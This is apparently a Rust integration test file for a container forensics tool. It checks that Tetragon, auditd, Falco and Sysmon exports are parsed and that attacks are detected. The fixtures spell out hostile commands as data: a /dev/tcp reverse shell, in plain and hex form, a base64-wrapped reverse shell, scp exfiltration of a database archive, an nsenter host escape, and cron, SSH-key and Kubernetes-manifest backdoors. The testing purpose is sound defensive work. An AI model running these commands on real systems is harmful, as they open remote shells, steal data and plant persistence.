//! Runtime sensor exports end to end (issue 23): a Tetragon export and a `docker top`
//! snapshot of the same container that disagree (the sensor's lineage and times win, the
//! chain names it), an audit log whose EXECVE carries a hex-encoded reverse shell, Falco
//! alerts, Sysmon for Linux in syslog, and hostile exports (cut lines, a 1 MB line,
//! non-UTF-8, another Tetragon version's kinds and fields, empty and garbage files).

use serde_json::Value;

use crate::util::{run_json, validate_against_schema, write_files};

/// The container both captures are of.
fn cid() -> String {
    "c0ffee".repeat(11)[..64].to_string()
}

fn bundle(files: &[(&str, Vec<u8>)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<(&str, &[u8])> = files.iter().map(|(n, t)| (*n, t.as_slice())).collect();
    write_files(dir.path(), &files);
    dir
}

/// Scan a bundle; every report must match docs/report-schema.json.
fn scan(dir: &std::path::Path) -> (Value, i32) {
    let (v, code) = run_json(&["scan", dir.to_str().unwrap()]);
    validate_against_schema(&v);
    (v, code)
}

/// The rules of every fact, with their severity.
fn rules(b: &Value) -> Vec<String> {
    let mut out: Vec<String> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap().to_string()))
        .collect();
    out.sort();
    out
}

fn fact<'a>(b: &'a Value, rule: &str) -> &'a Value {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rules"].as_array().unwrap().iter().any(|r| r == rule))
        .unwrap_or_else(|| panic!("no fact with {rule}: {:#}", b["findings"]))
}

fn inspect(id: &str) -> Vec<u8> {
    format!(
        r#"[{{"Id":"{id}","Name":"/web","Created":"2026-11-27T13:59:00Z","State":{{"Status":"running","Running":true,"Pid":100,"StartedAt":"2026-11-27T14:00:00Z"}},"Config":{{"Image":"tomcat:9","User":"tomcat"}},"HostConfig":{{}},"NetworkSettings":{{"IPAddress":"172.17.0.2"}}}}]"#
    )
    .into_bytes()
}

/// A Tetragon process object of the web container.
fn tproc(exec: &str, parent: &str, pid: u32, binary: &str, args: &str, start: &str, id: &str) -> String {
    format!(
        r#"{{"exec_id":"{exec}","pid":{pid},"uid":1001,"cwd":"/app","binary":"{binary}","arguments":{args},"start_time":"{start}","pod":{{"namespace":"shop","name":"web-7d9","container":{{"id":"containerd://{id}","name":"web","image":{{"name":"tomcat:9"}}}},"pod_labels":{{"app":"web"}}}},"parent_exec_id":"{parent}"}}"#,
        args = serde_json::to_string(args).unwrap()
    )
}

/// java (100) -> sh -c '<reverse shell>' (200, exited at once) -> bash -i (201) connecting out.
fn tetragon_export(id: &str) -> String {
    let java = tproc(
        "bm9kZToxMDA=",
        "bm9kZTo5MA==",
        100,
        "/usr/bin/java",
        "-jar /app/app.jar",
        "2026-11-27T14:00:00.120Z",
        id,
    );
    let sh = tproc(
        "bm9kZToyMDA=",
        "bm9kZToxMDA=",
        200,
        "/bin/sh",
        "-c \"bash -i >& /dev/tcp/45.33.32.156/4444 0>&1\"",
        "2026-11-27T14:02:11.504Z",
        id,
    );
    let bash = tproc("bm9kZToyMDE=", "bm9kZToyMDA=", 201, "/bin/bash", "-i", "2026-11-27T14:02:11.530Z", id);
    [
        format!(r#"{{"process_exec":{{"process":{java}}},"node_name":"n1","time":"2026-11-27T14:00:00.120Z"}}"#),
        format!(r#"{{"process_exec":{{"process":{sh},"parent":{java}}},"node_name":"n1","time":"2026-11-27T14:02:11.504Z"}}"#),
        format!(r#"{{"process_exec":{{"process":{bash},"parent":{sh}}},"node_name":"n1","time":"2026-11-27T14:02:11.530Z"}}"#),
        format!(
            r#"{{"process_kprobe":{{"process":{bash},"parent":{sh},"function_name":"tcp_connect","args":[{{"sock_arg":{{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"172.17.0.2","daddr":"45.33.32.156","sport":40222,"dport":4444}}}}],"action":"KPROBE_ACTION_POST"}},"node_name":"n1","time":"2026-11-27T14:02:11.540Z"}}"#
        ),
        format!(r#"{{"process_exit":{{"process":{sh},"parent":{java},"signal":"SIGHUP"}},"node_name":"n1","time":"2026-11-27T14:02:12.001Z"}}"#),
    ]
    .join("\n")
        + "\n"
}

/// `docker top web` taken later: the shell that ran the reverse shell is gone (its PID
/// reused by a `sleep`), its bash reparented to init; starts only to the minute.
const TOP_LATER: &str = "\
UID                 PID                 PPID                C                   STIME               TTY                 TIME                CMD
tomcat              100                 90                  2                   14:00               ?                   00:05:10            /usr/bin/java -jar /app/app.jar
tomcat              200                 100                 0                   14:05               ?                   00:00:00            sleep 3600
tomcat              201                 1                   0                   14:03               ?                   00:00:00            bash -i
";

#[test]
fn a_sensors_lineage_outranks_a_top_snapshot_and_the_chain_names_it() {
    let id = cid();
    let dir = bundle(&[
        ("web/inspect.json", inspect(&id)),
        ("web/top.txt", TOP_LATER.as_bytes().to_vec()),
        ("tetragon.json", tetragon_export(&id).into_bytes()),
    ]);
    let (v, code) = scan(dir.path());
    assert_eq!(code, 1, "critical findings");
    let b = &v["bundles"][0];
    let kinds: Vec<(&str, &str)> = b["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["path"].as_str().unwrap(), a["kind"].as_str().unwrap()))
        .collect();
    assert!(kinds.contains(&("tetragon.json", "tetragon")), "{kinds:?}");
    // One container: the sensor's record of it joined the inspect one (with its pod labels).
    let containers = b["containers"].as_array().unwrap();
    assert_eq!(containers.len(), 1, "{containers:#?}");
    assert_eq!(containers[0]["name"], "web");
    assert_eq!(containers[0]["config"]["labels"]["io.kubernetes.pod.name"], "web-7d9");
    // Only the sensor saw the shell: java -> sh -> bash, by exec id.
    let sensor =
        b["processes"].as_array().unwrap().iter().find(|p| p["capture"]["format"] == "tetragon").unwrap();
    let sh = sensor["capture"]["processes"].as_array().unwrap().iter().find(|p| p["pid"] == 200).unwrap();
    assert_eq!(sh["parent_exec_id"], "bm9kZToxMDA=");
    assert_eq!(sh["container"]["id"], id.as_str());
    assert!(sh["extra"]["exited"].as_str().unwrap().starts_with("2026-11-27T14:02:12.001"));
    assert_eq!(sensor["tree"]["parentage"], "exec_id");
    let tree = &sensor["tree"]["nodes"];
    let node = |pid: u64| tree.as_array().unwrap().iter().find(|n| n["pid"] == pid).unwrap();
    assert_eq!(node(201)["parent"], 200, "the snapshot says init; the sensor saw sh");
    assert_eq!(node(200)["parent"], 100);
    // The verdict and the chain are the container's, read from the sensor.
    let verdict = b["verdicts"].as_array().unwrap().iter().find(|x| x["container"] == "web").unwrap();
    assert_eq!(verdict["status"], "compromised", "{verdict:#}");
    let chain = b["chain"].as_array().unwrap();
    let way_in = chain.iter().find(|s| s["stage"] == "way in").unwrap_or_else(|| panic!("{chain:#?}"));
    assert_eq!(way_in["container"], "web");
    let proof: Vec<&str> =
        way_in["proof"].as_array().unwrap().iter().map(|l| l["artifact"].as_str().unwrap()).collect();
    assert!(proof.contains(&"tetragon.json"), "the chain names the sensor: {proof:?}");
    assert!(!proof.contains(&"web/top.txt"), "the snapshot holds no shell: {proof:?}");
    // The sensor's exact time and basis, not the minute of the snapshot's PID 200 (reused).
    assert_eq!(way_in["when"]["time"], "2026-11-27T14:02:11.504000000Z", "{way_in:#}");
    assert!(way_in["when"]["basis"].as_str().unwrap().contains("Tetragon"), "{way_in:#}");
    // The shell's own connection, seen only by the sensor: the callback is an IOC.
    let conn = fact(b, "sensor.connect.shell");
    assert_eq!(conn["severity"], "critical");
    assert_eq!(conn["owner"]["name"], "web");
    assert!(conn["summary"].as_str().unwrap().contains("45.33.32.156:4444"));
    let iocs: Vec<&str> =
        b["iocs"].as_array().unwrap().iter().map(|i| i["value"].as_str().unwrap()).collect();
    assert!(iocs.contains(&"45.33.32.156"), "{iocs:?}");
    assert!(rules(b).contains(&"proc.lineage.server-shell".to_string()), "{:?}", rules(b));
}

#[test]
fn the_snapshot_alone_sees_no_shell() {
    // The control for the test above: without the sensor, top shows a bash -i under init.
    let dir =
        bundle(&[("web/inspect.json", inspect(&cid())), ("web/top.txt", TOP_LATER.as_bytes().to_vec())]);
    let (v, _) = scan(dir.path());
    let r = rules(&v["bundles"][0]);
    assert!(!r.iter().any(|x| x.starts_with("proc.lineage.") || x == "proc.revshell"), "{r:?}");
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02X}")).collect()
}

/// An audit log: java execs `sh -c <hex reverse shell>`, which connects out (non-blocking,
/// EINPROGRESS) and creates a cron file; then a setuid(0) by uid 1001.
fn audit_log() -> String {
    let rev = "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1";
    let title = format!("{}00{}00{}", hex("sh"), hex("-c"), hex(rev));
    let sys = |serial: u32, t: &str, nr: u32, extra: &str, pid: u32, ppid: u32, comm: &str, exe: &str| {
        format!(
            "type=SYSCALL msg=audit({t}:{serial}): arch=c000003e syscall={nr} {extra} items=1 ppid={ppid} pid={pid} auid=4294967295 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) ses=4294967295 comm=\"{comm}\" exe=\"{exe}\" key=(null)"
        )
    };
    let lines = [
        sys(
            10,
            "1764252011.120",
            59,
            "success=yes exit=0 a0=1 a1=2 a2=3 a3=0",
            100,
            90,
            "java",
            "/usr/lib/jvm/bin/java",
        ),
        "type=EXECVE msg=audit(1764252011.120:10): argc=3 a0=\"java\" a1=\"-jar\" a2=\"/app/app.jar\"".into(),
        "type=EOE msg=audit(1764252011.120:10): ".into(),
        sys(
            11,
            "1764252131.504",
            59,
            "success=yes exit=0 a0=1 a1=2 a2=3 a3=0",
            200,
            100,
            "sh",
            "/usr/bin/dash",
        ),
        format!("type=EXECVE msg=audit(1764252131.504:11): argc=3 a0=\"sh\" a1=\"-c\" a2={}", hex(rev)),
        "type=CWD msg=audit(1764252131.504:11): cwd=\"/app\"".into(),
        format!("type=PROCTITLE msg=audit(1764252131.504:11): proctitle={title}"),
        "type=EOE msg=audit(1764252131.504:11): ".into(),
        sys(
            12,
            "1764252131.540",
            42,
            "success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0",
            200,
            100,
            "sh",
            "/usr/bin/dash",
        ),
        "type=SOCKADDR msg=audit(1764252131.540:12): saddr=0200115C2D21209C0000000000000000".into(),
        format!("type=PROCTITLE msg=audit(1764252131.540:12): proctitle={title}"),
        "type=EOE msg=audit(1764252131.540:12): ".into(),
        sys(
            13,
            "1764252136.001",
            257,
            "success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6",
            200,
            100,
            "sh",
            "/usr/bin/dash",
        ),
        "type=CWD msg=audit(1764252136.001:13): cwd=\"/etc/cron.d\"".into(),
        "type=PATH msg=audit(1764252136.001:13): item=0 name=\"/etc/cron.d/\" inode=5 nametype=PARENT".into(),
        "type=PATH msg=audit(1764252136.001:13): item=1 name=\"backdoor\" inode=6 nametype=CREATE".into(),
        "type=EOE msg=audit(1764252136.001:13): ".into(),
        sys(
            14,
            "1764252140.000",
            105,
            "success=yes exit=0 a0=0 a1=0 a2=0 a3=0",
            300,
            200,
            "exploit",
            "/tmp/.x/exploit",
        ),
        "type=EOE msg=audit(1764252140.000:14): ".into(),
    ];
    lines.join("\n") + "\n"
}

#[test]
fn an_audit_log_reverse_shell_is_decoded_from_hex_arguments() {
    let dir = bundle(&[("audit/audit.log", audit_log().into_bytes())]);
    let (v, code) = scan(dir.path());
    assert_eq!(code, 1);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "audit-log");
    let capture = &b["processes"][0]["capture"];
    assert_eq!(capture["format"], "auditd");
    let sh = capture["processes"].as_array().unwrap().iter().find(|p| p["pid"] == 200).unwrap();
    assert_eq!(sh["cmd"], "sh -c bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", "the hex argument decoded");
    assert_eq!(sh["ppid"], 100);
    assert_eq!(sh["started"], "2025-11-27T14:02:11.504000000Z");
    let r = rules(b);
    for want in [
        "proc.revshell",
        "proc.lineage.server-shell",
        "sensor.connect.shell",
        "sensor.file.persistence-write",
        "sensor.setuid-root",
    ] {
        assert!(r.contains(&want.to_string()), "{want} missing from {r:?}");
    }
    let cron = fact(b, "sensor.file.persistence-write");
    assert!(cron["summary"].as_str().unwrap().contains("/etc/cron.d/backdoor"), "{cron:#}");
    assert_eq!(cron["when"]["time"], "2025-11-27T14:02:16.001000000Z");
    let conn = fact(b, "sensor.connect.shell");
    let iocs: Vec<String> =
        conn["iocs"].as_array().unwrap().iter().map(|i| i["value"].as_str().unwrap().to_string()).collect();
    assert!(iocs.contains(&"45.33.32.156:4444".to_string()), "{iocs:?}");
    assert!(b["diagnostics"].as_array().unwrap().is_empty(), "{:#}", b["diagnostics"]);
}

#[test]
fn falco_alerts_are_findings_credited_to_falco_with_their_container() {
    let id = cid();
    let alert = r#"{"hostname":"node-1","output":"14:02:11.600000000: Warning Redirect stdout/stdin to network connection (fd.name=172.17.0.2:40222->45.33.32.156:4444 user=tomcat process=bash command=bash -i container_id=c0ffeec0ffee container_name=web)","output_fields":{"container.id":"c0ffeec0ffee","container.name":"web","container.image.repository":"tomcat","container.image.tag":"9","evt.time":1764252131600000000,"fd.name":"172.17.0.2:40222->45.33.32.156:4444","k8s.ns.name":"shop","k8s.pod.name":"web-7d9","proc.cmdline":"bash -i","proc.exepath":"/bin/bash","proc.name":"bash","proc.pid":201,"proc.ppid":200,"proc.pname":"sh","user.name":"tomcat","user.uid":1001},"priority":"Warning","rule":"Redirect STDOUT/STDIN to Network Connection in Container","source":"syscall","tags":["container","network","mitre_execution","T1059"],"time":"2025-11-27T14:02:11.600000000Z"}"#;
    let host_alert = r#"{"output":"x","output_fields":{"container.id":"host","proc.cmdline":"sshd -D","proc.pid":1},"priority":"Notice","rule":"Host rule","time":"2025-11-27T14:00:00Z","tags":[]}"#;
    let dir = bundle(&[
        ("web/inspect.json", inspect(&id)),
        ("falco.json", format!("{alert}\n{host_alert}\n").into_bytes()),
    ]);
    let (v, _) = scan(dir.path());
    let b = &v["bundles"][0];
    let kinds: Vec<&str> =
        b["artifacts"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"falco-alerts"), "{kinds:?}");
    let facts: Vec<&Value> =
        b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "sensor.falco").collect();
    assert_eq!(facts.len(), 2, "{:#}", b["findings"]);
    let web = facts.iter().find(|f| f["title"].as_str().unwrap().contains("Redirect")).unwrap();
    assert_eq!(web["severity"], "medium", "Warning is medium");
    assert_eq!(web["category"], "execution");
    assert_eq!(web["attack"], "T1059");
    assert_eq!(web["owner"]["name"], "web", "the short id joins the inspect record");
    assert_eq!(web["when"]["time"], "2025-11-27T14:02:11.600000000Z");
    let host = facts.iter().find(|f| f["title"].as_str().unwrap().contains("Host rule")).unwrap();
    assert_eq!(host["severity"], "low");
    // The alerts' processes are records of a capture, the container one with its owner.
    let capture =
        &b["processes"].as_array().unwrap().iter().find(|p| p["capture"]["format"] == "falco").unwrap()
            ["capture"];
    let bash = capture["processes"].as_array().unwrap().iter().find(|p| p["pid"] == 201).unwrap();
    assert_eq!(bash["cmd"], "bash -i");
    assert_eq!(bash["container"]["id"], "c0ffeec0ffee");
    let sshd = capture["processes"].as_array().unwrap().iter().find(|p| p["pid"] == 1).unwrap();
    assert!(sshd.get("container").is_none(), "Falco's 'host' is no container: {sshd:#}");
    // Listed under the sensor family.
    let (list, _) = run_json(&["rules", "list"]);
    let text = list.to_string();
    assert!(
        text.contains("sensor.falco") && text.contains("sensor.connect.shell"),
        "rules list lacks the sensor family"
    );
}

#[test]
fn sysmon_for_linux_in_plain_syslog() {
    let ev = |rec: u32, id: u32, data: &str| {
        format!(
            "May 11 18:10:22 ubuntu5 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{{ff032593}}\"/><EventID>{id}</EventID><EventRecordID>{rec}</EventRecordID><Computer>ubuntu5</Computer></System><EventData>{data}</EventData></Event>"
        )
    };
    let d = |n: &str, v: &str| format!("<Data Name=\"{n}\">{v}</Data>");
    let lines = [
        ev(1, 1, &[d("UtcTime", "2022-05-11 18:10:21.998"), d("ProcessGuid", "{g-bash}"), d("ProcessId", "17790"), d("Image", "/bin/bash"), d("CommandLine", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"), d("User", "tomcat"), d("ParentProcessGuid", "{g-java}"), d("ParentProcessId", "1340"), d("ParentImage", "/usr/bin/java"), d("ParentCommandLine", "java -jar app.jar"), d("ParentUser", "tomcat")].concat()),
        "May 11 18:10:22 ubuntu5 CRON[99]: (root) CMD (true)".into(),
        ev(2, 11, &[d("UtcTime", "2022-05-11 18:10:23.000"), d("ProcessGuid", "{g-bash}"), d("ProcessId", "17790"), d("Image", "/bin/bash"), d("TargetFilename", "/root/.ssh/authorized_keys")].concat()),
    ];
    let dir = bundle(&[("syslog", (lines.join("\n") + "\n").into_bytes())]);
    let (v, _) = scan(dir.path());
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "sysmon");
    let r = rules(b);
    for want in ["proc.revshell", "proc.lineage.server-shell", "sensor.file.persistence-write"] {
        assert!(r.contains(&want.to_string()), "{want} missing from {r:?}");
    }
    let capture = &b["processes"][0]["capture"];
    let java = capture["processes"].as_array().unwrap().iter().find(|p| p["pid"] == 1340).unwrap();
    assert_eq!(java["cmd"], "java -jar app.jar", "the parent's record from the child's Parent* fields");
}

#[test]
fn hostile_exports_are_diagnosed_and_the_rest_read() {
    let id = cid();
    let good = tetragon_export(&id);
    let mut first_lines = good.lines();
    let java_line = first_lines.next().unwrap().to_string();
    let sh_line = first_lines.next().unwrap().to_string();
    let mut t = Vec::new();
    t.extend_from_slice(java_line.as_bytes());
    t.push(b'\n');
    // A line cut short, a 1 MB line, invalid UTF-8 inside a string, another version's event
    // kind and an unknown field, then a good event.
    t.extend_from_slice(&sh_line.as_bytes()[..sh_line.len() / 2]);
    t.push(b'\n');
    t.extend_from_slice(
        format!("{{\"process_exec\":{{\"process\":{{\"binary\":\"{}\"}}}}}}\n", "A".repeat(1 << 20))
            .as_bytes(),
    );
    t.extend_from_slice(
        b"{\"process_exec\":{\"process\":{\"exec_id\":\"x\",\"pid\":5,\"binary\":\"/bin/\xff\xfe\"}}}\n",
    );
    t.extend_from_slice(b"{\"process_loader\":{\"process\":{\"exec_id\":\"y\",\"pid\":6},\"path\":\"/lib/x.so\"},\"time\":\"2026-11-27T14:00:00Z\"}\n");
    t.extend_from_slice(
        sh_line
            .replace("\"node_name\"", "\"new_field_of_tetragon_9\":{\"a\":[1,2]},\"node_name\"")
            .as_bytes(),
    );
    t.push(b'\n');
    t.extend_from_slice(b"\x00\x01garbage\n{\"process_exec\":");
    let dir = bundle(&[
        ("tetragon.json", t),
        ("empty/audit.log", vec![]),
        (
            "garbage/audit.log",
            b"type=SYSCALL msg=audit(1:2): pid=x ppid=\nnot audit at all\n\xff\xfe\n".to_vec(),
        ),
    ]);
    let (v, _) = scan(dir.path());
    let b = &v["bundles"][0];
    let kinds: Vec<(&str, &str)> = b["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["path"].as_str().unwrap(), a["kind"].as_str().unwrap()))
        .collect();
    assert!(kinds.contains(&("tetragon.json", "tetragon")), "{kinds:?}");
    let diags: Vec<String> = b["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["locator"]["artifact"] == "tetragon.json")
        .map(|d| format!("{}:{}", d["locator"]["line"], d["message"].as_str().unwrap()))
        .collect();
    for want in [
        "2:JSON object cut short",
        "3:line longer than 1 MiB",
        "4:not a Tetragon event",
        "5:1 Tetragon event(s) of kind 'process_loader'",
        "7:not a JSON object",
        "8:JSON object cut short",
    ] {
        assert!(diags.iter().any(|d| d.starts_with(want)), "{want} missing from {diags:#?}");
    }
    // The events around them are read: the shell of the unknown-field line joins java.
    let sensor =
        b["processes"].as_array().unwrap().iter().find(|p| p["capture"]["format"] == "tetragon").unwrap();
    let pids: Vec<u64> = sensor["capture"]["processes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["pid"].as_u64().unwrap())
        .collect();
    assert_eq!(pids, vec![100, 200], "{pids:?}");
    assert!(rules(b).contains(&"proc.revshell".to_string()), "{:?}", rules(b));
}

#[test]
fn escape_persistence_and_exfiltration_seen_by_tetragon_join_the_chain() {
    let id = cid();
    let java = tproc(
        "bm9kZToxMDA=",
        "bm9kZTo5MA==",
        100,
        "/usr/bin/java",
        "-jar /app/app.jar",
        "2026-11-27T14:00:00.120Z",
        &id,
    );
    let sh = tproc("c2g=", "bm9kZToxMDA=", 300, "/bin/sh", "-c id", "2026-11-27T14:10:00.000Z", &id);
    let ev = |n: usize, p: &str, kind: &str, body: &str| {
        format!(
            r#"{{"{kind}":{{"process":{p}{body}}},"node_name":"n1","time":"2026-11-27T14:1{n}:00.000Z"}}"#
        )
    };
    let nsenter = tproc(
        "bnM=",
        "c2g=",
        301,
        "/usr/bin/nsenter",
        "-t 1 -m -u -i -n sh",
        "2026-11-27T14:11:00.000Z",
        &id,
    );
    let scp = tproc(
        "c2Nw",
        "c2g=",
        302,
        "/usr/bin/scp",
        "/tmp/db.tar.gz root@45.33.32.156:/loot/",
        "2026-11-27T14:12:00.000Z",
        &id,
    );
    let priv_esc = tproc("eA==", "c2g=", 303, "/tmp/x", "", "2026-11-27T14:13:00.000Z", &id);
    let lines = [
        ev(0, &java, "process_exec", ""),
        ev(0, &sh, "process_exec", &format!(r#","parent":{java}"#)),
        ev(1, &nsenter, "process_exec", ""),
        ev(2, &scp, "process_exec", ""),
        ev(3, &priv_esc, "process_kprobe", r#","function_name":"__x64_sys_setuid","args":[{"int_arg":0}]"#),
        ev(
            4,
            &sh,
            "process_kprobe",
            r#","function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/kubernetes/manifests/kube-backdoor.yaml"}},{"int_arg":2}]"#,
        ),
    ];
    let dir = bundle(&[
        ("web/inspect.json", inspect(&id)),
        ("tetragon.json", (lines.join("\n") + "\n").into_bytes()),
    ]);
    let (v, _) = scan(dir.path());
    let b = &v["bundles"][0];
    let r = rules(b);
    for want in
        ["sensor.escape.host", "sensor.exfil.archive", "sensor.setuid-root", "sensor.file.persistence-write"]
    {
        assert!(r.contains(&want.to_string()), "{want} missing from {r:?}");
    }
    let exfil = fact(b, "sensor.exfil.archive");
    // Folded into the session's fact (java -> sh -> scp); the archive and its destination named.
    let text = exfil["summary"].as_str().unwrap();
    assert!(text.contains("/tmp/db.tar.gz") && text.contains("45.33.32.156"), "{exfil:#}");
    let stages: Vec<&str> =
        b["chain"].as_array().unwrap().iter().map(|s| s["stage"].as_str().unwrap()).collect();
    // java ran the shell: that is the way in; what the sensor saw after it are its stages.
    for want in ["way in", "escape", "persistence"] {
        assert!(stages.contains(&want), "{want} missing from {stages:?}");
    }
    let escape_stage = b["chain"].as_array().unwrap().iter().find(|s| s["stage"] == "escape").unwrap();
    assert_eq!(escape_stage["rule"], "sensor.escape.host");
    assert_eq!(escape_stage["when"]["time"], "2026-11-27T14:11:00.000000000Z");
    let escape = fact(b, "sensor.escape.host");
    assert_eq!(escape["severity"], "critical");
    assert_eq!(escape["category"], "privilege-escalation");
}

#[test]
fn every_reader_survives_cut_and_flipped_exports() {
    // Each reader on every prefix of each export (cut anywhere) and with bytes flipped by a
    // fixed pseudo-random walk: no panic, whatever the bytes (the fuzz target's entry).
    let exports = [tetragon_export(&cid()), audit_log()];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for text in &exports {
        let bytes = text.as_bytes();
        for sel in 0u8..4 {
            for cut in (0..bytes.len()).step_by(97) {
                let mut input = vec![sel];
                input.extend_from_slice(&bytes[..cut]);
                ctriage::fuzzing::sensors(&input);
            }
            for _ in 0..40 {
                let mut input = vec![sel];
                input.extend_from_slice(bytes);
                for _ in 0..8 {
                    seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                    let at = 1 + (seed >> 33) as usize % bytes.len();
                    input[at] = (seed >> 13) as u8;
                }
                ctriage::fuzzing::sensors(&input);
            }
        }
    }
}
